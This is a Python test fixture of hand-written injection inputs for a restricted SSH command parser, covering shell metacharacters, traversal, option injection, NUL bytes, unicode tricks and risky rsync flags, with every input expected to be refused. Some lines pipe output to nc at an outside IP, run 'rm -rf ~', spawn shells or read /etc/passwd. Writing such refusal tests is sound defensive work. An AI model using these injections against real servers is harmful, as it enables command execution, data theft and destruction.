"""Hand-written attacks on peer-shell's command parser (SSH_ORIGINAL_COMMAND).

Every entry must be refused: non-zero exit, nothing on stdout, one audit
line, nothing else touched.  ``HANDWRITTEN`` holds the literal attacks,
grouped by technique; ``expanded()`` adds the systematic variants the brief
asks for (traversal and shell metacharacters in every position of every
allowed form).  ``CONTROLS`` are allowed forms, so the same harness shows
that it does accept what it should.

The app slug the attacks aim at is ``shared`` (the one app the calling peer
may see in the test instances) and ``secret`` (an app it may not see).
"""

from __future__ import annotations

from tests.hostile import spec

K = "A" * 68                      # right length and alphabet for replace-key
SEND = "rsync --server --sender -lHogtpre.iLsfxC --numeric-ids"
RECV = "rsync --server -lHogtpre.iLsfxC"

SHELL_METACHARACTERS = [
    "ping; id", "ping;id", "ping && id", "ping || id", "ping | sh", "ping|sh", "ping & id", "ping &",
    "ping `id`", "ping $(id)", "$(id)", "`id`", "ping$(id)", "list-apps;id", "list-apps |nc 192.0.2.9 80",
    "stream-app shared;id", "stream-app shared; rm -rf ~", "stream-app $(id)", "stream-app `id`",
    "stream-app shared&", "stream-app shared>x", "stream-app shared >/tmp/x", "stream-app shared<x",
    "stream-app shared 2>&1", "stream-app s*", "stream-app share?", "stream-app [s]hared", "stream-app ~root",
    "stream-app {shared,secret}", "stream-app shared#", "stream-app shared\\", "stream-app shared|tee x",
    "stream-app ${IFS}shared", "ping${IFS}id", "stream-app${IFS}shared", "stream-app shared --zstd;reboot",
    "ping >/tmp/pwned", "ping <(id)", "!ping", "ping!", "!!", "stream-app shared%0aid", "ping #",
    "receive-app shared --domain example.com;id", "receive-app shared --domain $(hostname).example",
    "receive-app shared --domain x.y|sh", "receive-app shared --domain `id`.example",
    SEND + " . shared/;id", SEND + " . shared/$(id)", SEND + " . $(id)/", "replace-key $(cat${IFS}/etc/passwd)",
    "replace-key " + K[:-1] + ";", "stream-app shared\\;id", "ping;", ";ping", "&&ping", "ping $HOME",
    "stream-app $APP", "stream-app shared*", "ping ^", "exec /bin/sh",
    "app-info shared;id", "app-info $(id)", "app-info shared|sh", "app-info `id`", "app-info shared&&id",
    "with-app-info " + SEND + " . shared/;id", "with-app-info;" + SEND + " . shared/", "with-app-info $(id)",
    "with-app-info `id` " + SEND + " . shared/", "with-app-info|" + SEND + " . shared/",
]

QUOTING = [
    "'ping'", '"ping"', "pi''ng", 'pi""ng', "stream-app 'shared'", 'stream-app "shared"', "stream-app s'h'ared",
    "stream-app $'\\x2e\\x2e'", "stream-app \\s\\h\\a\\r\\e\\d", "'stream-app' shared", "ping ''", 'ping ""',
    "stream-app shared ''", "receive-app shared --domain 'x.y'", 'stream-app "$(id)"', "stream-app 'a b'",
    "stream-app a\\ b", "p\\ing", "ping\\ ", 'stream-app ""shared', "stream-app shared'", 'stream-app "shared',
    "list-apps'", "'list-apps", "stream-app $'shared'", "ping\\\n", "stream-app \"shared\" --zstd",
    "stream-app shared '--zstd'", "replace-key '" + K + "'", SEND + " . 'shared/'", SEND + ' . "shared/"',
]

NEWLINES_AND_SPACING = [
    "ping\nid", "ping\n", "\nping", "ping\r\n", "ping\r", "ping\rid", "list-apps\nrm -rf ~",
    "stream-app shared\n--zstd", "stream-app shared\nid", "ping\tid", "ping\t", "stream-app\tshared",
    "stream-app  shared", " ping", "ping ", "  ping", "stream-app shared ", "stream-app shared  --zstd",
    "ping\x0b", "ping\x0c", "ping\x85", "ping\u2028id", "ping\u2029", "stream-app\u00a0shared",
    "stream-app\u3000shared", "stream-app\u200bshared", "stream-app\u2002shared", "list-apps\x1b[2J",
    "ping\x1b]0;pwned\x07", "ping\x7f", "ping\x08\x08\x08\x08list-apps", "stream-app shared\x1b[A",
    SEND + " .  shared/", SEND + "\t. shared/", "receive-app shared\n--domain x.y",
]

NUL_BYTES = [
    "ping\x00", "ping\x00id", "\x00ping", "\x00", "stream-app shared\x00../../etc", "stream-app sh\x00ared",
    SEND + " . shared/\x00", "list-apps\x00;id", "stream-app shared\x00 --zstd", "replace-key " + K[:67] + "\x00",
    "receive-app shared --domain x.y\x00.z", "stream-app \x00", "rsync\x00--server",
]

UNICODE_LOOKALIKES = [
    "\uff50\uff49\uff4e\uff47",           # fullwidth "ping"
    "p\u0456ng",                          # Cyrillic i
    "\u0440ing",                          # Cyrillic er
    "ping\u0301",                         # combining acute
    "list\u2010apps", "list\u2011apps", "list\u2212apps", "list\u2013apps", "list\u00adapps",
    "stream\u2011app shared", "stream-app sh\u0430red", "stream-app shared\u200d",
    "stream-app \u2024\u2024", "stream-app \uff0e\uff0e/x", "stream-app \u2025", "stream-app \u2215etc",
    "stream-app \ufe52\ufe52", "stream-app \uff33hared", "stream-app shared\ufeff", "\ufeffping",
    "stream-app \ufb01le", "stream-app \uff53\uff48\uff41\uff52\uff45\uff44", "stream-app sha\u0280ed",
    SEND + " \uff0e shared/", "rsync \u2014server --sender -re.x . shared/", "rsync \u2010\u2010server",
    "stream-app shared\u202e", "stream-app \u202edera" + "hs", "ping\u180e", "stream-app \u0130",
    "stream-app shared\uff0f", "stream-app \u212aelvin", "stream-app s\u0068ared\u0307", "LIST-APPS", "Ping",
    "stream-app Shared", "stream-app SHARED", "stream-app shared\udc80", "\udcffping",
]

OVERLONG = [
    "ping " + "a" * 300, "stream-app " + "a" * 64, "stream-app " + "a" * 10_000, "x" * 257,
    "ping" + " " * 253, "receive-app shared --domain " + ("a" * 63 + ".") * 4 + "com",
    "stream-app " + "a/" * 200, "list-apps" * 40, "p" * 1_000_000,
    # 257 characters of an otherwise allowed form: one past the limit.
    "receive-app " + "s" * 63 + " --zstd --keep-urls --no-pre-backup --domain " + ".".join(["d" * 63, "e" * 63, "f" * 9]),
    SEND + " . " + "a" * 64 + "/", "replace-key " + "A" * 4096,
]

OPTION_INJECTION = [
    "stream-app -x", "stream-app --", "stream-app -- shared", "stream-app shared --", "stream-app --zstd shared",
    "stream-app shared --zstd --zstd", "stream-app shared -x", "stream-app shared --to-command=sh",
    "stream-app --to-command=sh", "stream-app --checkpoint=1 --checkpoint-action=exec=sh", "stream-app -C/ .",
    "stream-app shared --use-compress-program=sh", "stream-app shared -I sh", "stream-app shared --keep-urls",
    "ping -x", "ping --help", "ping --", "list-apps --all", "list-apps -a", "list-apps shared",
    "receive-app shared --domain", "receive-app shared --domain --zstd", "receive-app shared --domain=x.y",
    "receive-app shared --keep-urls --keep-urls", "receive-app shared --domain x.y --domain z.w",
    "receive-app --domain x.y shared", "receive-app shared --push", "receive-app shared --no-pre-backup=1",
    "receive-app shared -k", "receive-app shared --domain localhost", "receive-app shared --domain ::1",
    "receive-app shared --domain 1:2::3.x", "receive-app shared --domain -x.y", "receive-app shared --domain x.y.",
    "receive-app shared --domain .x.y", "receive-app shared --domain x..y", "receive-app shared --domain x_y.z",
    "replace-key -x", "replace-key --", "replace-key " + K[:67], "replace-key " + K + "A",
    "replace-key " + K + " extra", "replace-key ssh-ed25519 " + K, "replace-key " + K[:66] + "==",
    "replace-key " + K[:67] + "=", "replace-key " + K[:67] + "-", "replace-key " + K[:67] + "_",
    "stream-app -", "stream-app -shared", "--version", "-c ping", "--help", "-h", "sh -c ping",
    "/bin/sh -c id", "bash -i", "exec ping", "env ping", "command ping", "ping --zstd", "stream-app",
    "receive-app", "replace-key", "list-apps --zstd", "internal-sftp", "sftp-server", "scp -t /tmp",
    "scp -f /etc/passwd", "git-upload-pack '/srv/repo'", "/usr/lib/openssh/sftp-server", "tar -cf - /",
    "app-info", "app-info -x", "app-info --", "app-info -- shared", "app-info shared --zstd", "app-info shared secret",
    "app-info --help", "app-info -shared", "app-info shared --all",
    # with-app-info: only before rsync's sending side, exactly once.
    "with-app-info", "with-app-info ping", "with-app-info app-info shared", "with-app-info stream-app shared",
    "with-app-info list-apps", "with-app-info " + RECV + " . shared/", "with-app-info " + RECV + " --delete . shared/",
    "with-app-info with-app-info " + SEND + " . shared/", "with-app-info --sender " + SEND + " . shared/",
    SEND + " with-app-info . shared/", "rsync with-app-info --server --sender -re.x . shared/",
    "with-app-info -- " + SEND + " . shared/", "With-App-Info " + SEND + " . shared/",
    "with_app_info " + SEND + " . shared/", "with-app-info " + SEND + " --delete . shared/",
    "with-app-info " + SEND + " . shared/ secret/", "with-app-info  " + SEND + " . shared/",
]

TRAVERSAL = [
    "..", "../ping", "./ping", "ping/..", "/ping", "stream-app ..", "stream-app ../shared", "stream-app ../../etc/passwd",
    "stream-app /etc", "stream-app /", "stream-app .", "stream-app ./shared", "stream-app shared/..",
    "stream-app shared/../../x", "stream-app shared/.", "stream-app %2e%2e", "stream-app %2e%2e%2f",
    "stream-app ..%2f", "stream-app ....//", "stream-app ..\\..", "stream-app shared/", "stream-app a/b",
    "stream-app ~", "stream-app ~/x", "stream-app ...", "stream-app .shared", "stream-app .peerkit-staging-x",
    "receive-app ../shared", "receive-app shared --domain ../x", "receive-app shared --domain x/../y.z",
    "receive-app shared --domain /etc/passwd", "receive-app /tmp/x", "receive-app .", "receive-app ..",
    "rsync --server --sender -re.x .. shared/", "rsync --server --sender -re.x / shared/",
    "rsync --server --sender -re.x . ../shared/", "rsync --server --sender -re.x . shared/../../",
    "rsync --server --sender -re.x . /etc/", "rsync --server --sender -re.x . shared/../",
    "rsync --server --sender -re.x . shared", "rsync --server --sender -re.x . shared/x/",
    "rsync --server --sender -re.x . ./shared/", "rsync --server --sender -re.x . shared//",
    "rsync --server --sender -re.x . ~/", "rsync --server -re.x . ../", "rsync --server --sender -re.x ../ shared/",
    "rsync --server --sender -re.x . ./", "rsync --server --sender -re.x . ../", "rsync --server -re.x . /",
    "list-apps ..", "ping ../../", "replace-key ../", "stream-app shared/../secret", "stream-app secret/../shared",
    "app-info ..", "app-info ../shared", "app-info /etc", "app-info shared/", "app-info shared/../secret",
    "app-info .", "app-info ~",
    "with-app-info rsync --server --sender -re.x . ../shared/", "with-app-info rsync --server --sender -re.x . /etc/",
    "with-app-info rsync --server --sender -re.x . shared/../secret/", "with-app-info rsync --server --sender -re.x . ~/",
]

RSYNC_HISTORY = [
    # rrsync's -ro default and options it had to learn to refuse.
    "rsync --server --sender -vlogDtpre.iLsfxC . shared/", "rsync --server --sender -vlogDtpre.iLsfxC . /",
    "rsync --server --sender -L -re.x . shared/", "rsync --server --sender -Lre.x . shared/",
    "rsync --server --sender -kre.x . shared/", "rsync --server --sender -Kre.x . shared/",
    "rsync --server --sender -sre.x . shared/", "rsync --server --sender -zre.x . shared/",
    "rsync --server --sender -Dre.x . shared/", "rsync --server --sender -Rre.x . shared/",
    "rsync --server --sender -vre.x . shared/", "rsync --server --sender -nre.x . shared/",
    "rsync --server --sender -re.x --rsh=sh . shared/", "rsync --server --sender -re.x -e sh . shared/",
    "rsync --server --sender -re.x --rsync-path=sh . shared/", "rsync --server -re.x --log-file=/tmp/x . shared/",
    "rsync --server -re.x --log-file-format=%f . shared/", "rsync --server -re.x --temp-dir=/tmp . shared/",
    "rsync --server -re.x --backup-dir=../x . shared/", "rsync --server -re.x --partial-dir=../x . shared/",
    "rsync --server -re.x --compare-dest=/etc . shared/", "rsync --server -re.x --copy-dest=/etc . shared/",
    "rsync --server -re.x --link-dest=/etc . shared/", "rsync --server --sender -re.x --files-from=/etc/passwd . shared/",
    "rsync --server --sender -re.x --files-from=- --from0 . shared/",
    "rsync --server --sender -re.x --exclude-from=/etc/shadow . shared/",
    "rsync --server --sender -re.x --include-from=/etc/shadow . shared/", "rsync --server -re.x --delete-after . shared/",
    "rsync --server -re.x --delete=1 . shared/", "rsync --server --sender -re.x --delete . shared/",
    "rsync --server --sender -re.x --stats . shared/", "rsync --server -re.x --numeric-ids --numeric-ids . shared/",
    "rsync --server -re.x --write-devices . shared/", "rsync --server -re.x --devices . shared/",
    "rsync --server -re.x --specials . shared/", "rsync --server -re.x --chmod=u+s . shared/",
    "rsync --server -re.x --chown=0:0 . shared/", "rsync --server -re.x --usermap=*:root . shared/",
    "rsync --server -re.x --super . shared/", "rsync --server -re.x --fake-super . shared/",
    "rsync --server -re.x --remove-source-files . shared/",
    "rsync --server --sender -re.x --remove-source-files . shared/", "rsync --server --daemon . shared/",
    "rsync --daemon", "rsync --server --sender -re.x . shared/ secret/", "rsync --server --sender -re.x . shared/ /etc/",
    "rsync --server --sender --sender -re.x . shared/", "rsync --sender --server -re.x . shared/",
    "rsync --server --sender -re.x . shared/*", "rsync --server --sender -re.x . shared/ --",
    "rsync --server --sender -re.x -- . shared/", "rsync --server --sender -re.x . -- shared/",
    "rsync --server --sender -re.x . -shared/", "rsync --server --sender -r . shared/",
    "rsync --server --sender -re. . shared/", "rsync --server --sender -re.x;id . shared/",
    "rsync --server --sender -re.iLsfxC0 . shared/", "rsync --server --sender -re.x . shared/\n",
    "/usr/bin/rsync --server --sender -re.x . shared/", "rsync3 --server --sender -re.x . shared/",
    "rsync --server --sender -re.x --ignore-errors . shared/", "rsync --server --sender -re.x --8-bit-output . shared/",
    "rsync --server --sender -re.x --server . shared/", "rsync --server --sender -re.x --protect-args . shared/",
    "rsync --server -re.x --only-write-batch=/tmp/x . shared/", "rsync --server --sender -re.x --read-batch=/tmp/x . shared/",
    "rsync --server -re.x --mkpath . shared/x/y/", "rsync --server --sender -e.x . shared/",
    "rsync --server --sender -lHogtpre.iLsfxC . .", "rsync --server --sender -lHogtpre.iLsfxC --numeric-ids . ./",
    "rsync --server --sender -logDtprze.iLsfxC --numeric-ids . shared/",
    "rsync --server --sender -vvlogDtprRe.iLsfxCIvu . shared/", "rsync --server -vlogDtpre.iLsfxC . /etc/",
    "rsync --server -lHogtpr --delete . shared/", "rsync --server", "rsync", "rsync --server --sender",
    "rsync --server --sender -re.x", "rsync --server --sender -re.x .", "rsync --server --sender -re.x . shared/ . shared/",
    "rsync --server --sender -re." + "x" * 33 + " . shared/", "rsync --server --sender -r-e.x . shared/",
    "rsync --server --sender --re.x . shared/", "rsync --server --sender -re.x --numeric-ids=0 . shared/",
    "rsync --server -re.x --delete --delete . shared/", "rsync --server -re.x --stats --delete --stats . shared/",
]

HANDWRITTEN: dict[str, list[str]] = {
    "shell metacharacters": SHELL_METACHARACTERS,
    "quoting tricks": QUOTING,
    "newlines, control characters and spacing": NEWLINES_AND_SPACING,
    "NUL bytes": NUL_BYTES,
    "unicode look-alikes and normalisation": UNICODE_LOOKALIKES,
    "over-long input": OVERLONG,
    "option injection": OPTION_INJECTION,
    "traversal": TRAVERSAL,
    "rsync argument vectors (rrsync's history)": RSYNC_HISTORY,
}

# Allowed forms: the harness must accept these (and only run what they name).
CONTROLS = [
    "ping", "list-apps", "app-info shared", "app-info secret", "app-info nope",
    "stream-app shared", "stream-app shared --zstd", "stream-app secret", "stream-app nope",
    "receive-app shared", "receive-app shared --zstd --keep-urls --no-pre-backup --domain example.org",
    "receive-app shared --domain example.org --no-pre-backup", "replace-key " + K,
    SEND + " . shared/", "rsync --server --sender -re.x . shared/", RECV + " --delete --stats --numeric-ids . shared/",
    "rsync --server -lHogtpre.iLsfxC . nope/",
    "with-app-info " + SEND + " . shared/", "with-app-info " + SEND + " . secret/", "with-app-info " + SEND + " . nope/",
    # Exactly 256 characters: the longest command allowed.
    "receive-app " + "s" * 63 + " --zstd --keep-urls --no-pre-backup --domain " + ".".join(["d" * 63, "e" * 63, "f" * 8]),
]

# The allowed forms as words, for the systematic variants.
TEMPLATES = [
    ["ping"], ["list-apps"], ["app-info", "shared"], ["stream-app", "shared"], ["stream-app", "shared", "--zstd"],
    ["receive-app", "shared", "--keep-urls", "--domain", "example.org"], ["replace-key", K],
    SEND.split(" ") + [".", "shared/"], RECV.split(" ") + ["--delete", ".", "shared/"],
    ["with-app-info", *SEND.split(" "), ".", "shared/"],
]
TRAVERSAL_WORDS = ["..", "../shared", "/", "/etc/passwd", "./", "shared/../..", "%2e%2e%2f", "~"]
METACHARACTERS = [";", "|", "&", "`", "$(", ")", ">", "<", "*", "?", "\\", "'", '"', "\n", "\x00", "\t", "#", "~"]


def handwritten() -> list[str]:
    """Every literal attack, in order, duplicates removed."""
    seen: dict[str, None] = {}
    for items in HANDWRITTEN.values():
        for text in items:
            seen.setdefault(text, None)
    return list(seen)


def expanded() -> list[str]:
    """Traversal in every word position and metacharacters at every character position of every allowed form."""
    out: dict[str, None] = {}
    for words in TEMPLATES:
        for i in range(len(words) + 1):
            for bad in TRAVERSAL_WORDS:
                if i < len(words):
                    out.setdefault(" ".join(words[:i] + [bad] + words[i + 1:]), None)
                    out.setdefault(" ".join(words[:i] + [words[i] + bad] + words[i + 1:]), None)
                out.setdefault(" ".join(words[:i] + [bad] + words[i:]), None)
        text = " ".join(words)
        for pos in range(len(text) + 1):
            for meta in METACHARACTERS:
                out.setdefault(text[:pos] + meta + text[pos:], None)
    # Some substitutions land on another allowed form (e.g. "~" is not one,
    # but a slug that happens to stay a slug would be): keep only real attacks.
    return [text for text in out if spec.allowed(text) is None and text not in set(handwritten())]


def everything() -> list[str]:
    return handwritten() + expanded()
